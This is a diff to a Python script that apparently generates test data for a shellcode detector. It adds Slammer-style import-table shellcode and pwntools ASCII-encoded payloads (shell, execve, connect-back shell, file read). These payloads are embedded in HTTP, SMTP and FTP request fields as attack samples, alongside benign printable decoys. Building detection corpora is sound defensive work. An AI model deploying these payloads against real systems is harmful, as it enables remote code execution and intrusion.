@@ -41,6 +41,7 @@ os.environ.setdefault("PWNLIB_NOTERM", "1")
 
 from pwn import asm, context, shellcraft  # noqa: E402
 import pwnlib.encoders.amd64.delta as amd64_delta  # noqa: E402
+import pwnlib.encoders.i386.ascii_shellcode as i386_ascii  # noqa: E402
 import pwnlib.encoders.i386.delta as i386_delta  # noqa: E402
 import pwnlib.encoders.i386.xor as i386_xor  # noqa: E402
 
@@ -137,6 +138,20 @@ def win32_blockapi():
                 "cmd:\n  db 'calc.exe', 0\n")
 
 
+def win32_iat(lib, fn):
+    # Slammer's way: the code calls through the import table of the
+    # program it broke into (fixed addresses), after writing the names of
+    # what it wants on the stack.
+    def pushstr(t):
+        t = t + b"\0" * (-len(t) % 4)
+        return "".join("  push dword 0x%08x\n" % struct.unpack(
+            "<I", t[i:i + 4])[0] for i in range(len(t) - 4, -4, -4))
+    return nasm("BITS 32\n  xor ecx, ecx\n  push ecx\n" + pushstr(lib) +
+                "  push esp\n  mov esi, 0x42ae1018\n  call [esi]\n"
+                "  push ecx\n" + pushstr(fn) + "  push esp\n  push eax\n"
+                "  mov esi, 0x42ae1010\n  call [esi]\n  call eax\n")
+
+
 def win64_peb():
     return nasm("BITS 64\n  cld\n  xor rcx, rcx\n"
                 "  mov rax, [gs:rcx + 0x60]\n  mov rax, [rax + 0x18]\n"
@@ -199,6 +214,10 @@ def families():
                     fnstenv_reg32(p32[k], 0x5c)))
     out.append(("win32_peb", "x86", win32_peb()))
     out.append(("win32_blockapi", "x86", win32_blockapi()))
+    out.append(("win32_iat_kernel32", "x86",
+                win32_iat(b"kernel32.dll", b"GetTickCount")))
+    out.append(("win32_iat_ws2_32", "x86",
+                win32_iat(b"ws2_32.dll", b"WSAStartup")))
     out.append(("win64_peb", "x86_64", win64_peb()))
     p64 = pwn_payloads("amd64")
     for k, v in p64.items():
@@ -248,6 +267,33 @@ def contexts(rng, sc):
                        sled(rng, rng.randint(64, 300), rng.randint(0, 1)) +
                        sc + bytes(rng.randrange(256) for _ in
                                   range(rng.randint(0, 64))))
+
+
+def printable_families():
+    # pwntools' ascii_shellcode: printable code that builds the payload on
+    # the stack with "sub eax" and "push eax", where the exploit's "jmp
+    # esp" (or its layout) takes it.
+    out = []
+    p32 = pwn_payloads("i386")
+    context.clear(arch="i386")
+    for k in ("sh", "execve", "connect_dupsh", "cat"):
+        out.append(("i386_ascii_" + k, "x86", i386_ascii.encode(p32[k])))
+    return out
+
+
+def printable_contexts(rng, sc):
+    # Where printable code goes: fields that take no binary bytes.
+    host = b"Host: www.example.com\r\n"
+    yield "http_path", (b"GET /scripts/" + sc + b" HTTP/1.0\r\n" + host +
+                        b"\r\n")
+    yield "http_query", (b"GET /cgi-bin/search?q=" + sc + b" HTTP/1.0\r\n" +
+                         host + b"\r\n")
+    yield "http_header", (b"GET / HTTP/1.1\r\n" + host + b"Cookie: id=" +
+                          sc + b"\r\n\r\n")
+    yield "smtp", (b"EHLO client\r\nMAIL FROM:<" + sc +
+                   b"@example.com>\r\n")
+    yield "ftp", b"USER anonymous\r\nPASS " + sc + b"\r\n"
+    yield "raw", sc
 
 
 # ---- benign ----------------------------------------------------------------
@@ -430,6 +476,19 @@ def benign(rng):
         yield "base64", base64.b64encode(bytes(rng.randrange(256) for _ in
                                                range(rng.randint(30,
                                                                  6000))))
+    # Long printable runs, which the analyzer also runs as code.
+    for i in range(60):
+        n = rng.randint(80, 4000)
+        tok = rng.choice([
+            base64.urlsafe_b64encode(rng.randbytes(n)).rstrip(b"="),
+            rng.randbytes(n // 2).hex().encode(),
+            b".".join(base64.urlsafe_b64encode(rng.randbytes(n // 3))
+                      for _ in range(3)),
+            bytes(rng.choice(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop"
+                             b"qrstuvwxyz0123456789") for _ in range(n))])
+        yield "printable", rng.choice([
+            b"GET /x?token=" + tok + b" HTTP/1.1\r\nHost: a\r\n\r\n",
+            b"GET / HTTP/1.1\r\nCookie: s=" + tok + b"\r\n\r\n", tok])
     for i in range(40):
         yield "gzip", gzip.compress(english(rng, rng.randint(100, 20000)),
                                     mtime=0)
@@ -458,6 +517,13 @@ def main():
     n = 0
     for fam, arch, sc in families():
         for ctx, data in contexts(rng, sc):
+            name = "attack-shellcode-%d.bin" % n
+            n += 1
+            with open(os.path.join(outdir, name), "wb") as f:
+                f.write(data)
+            manifest.append((name, "attack", fam, ctx))
+    for fam, arch, sc in printable_families():
+        for ctx, data in printable_contexts(rng, sc):
             name = "attack-shellcode-%d.bin" % n
             n += 1
             with open(os.path.join(outdir, name), "wb") as f:
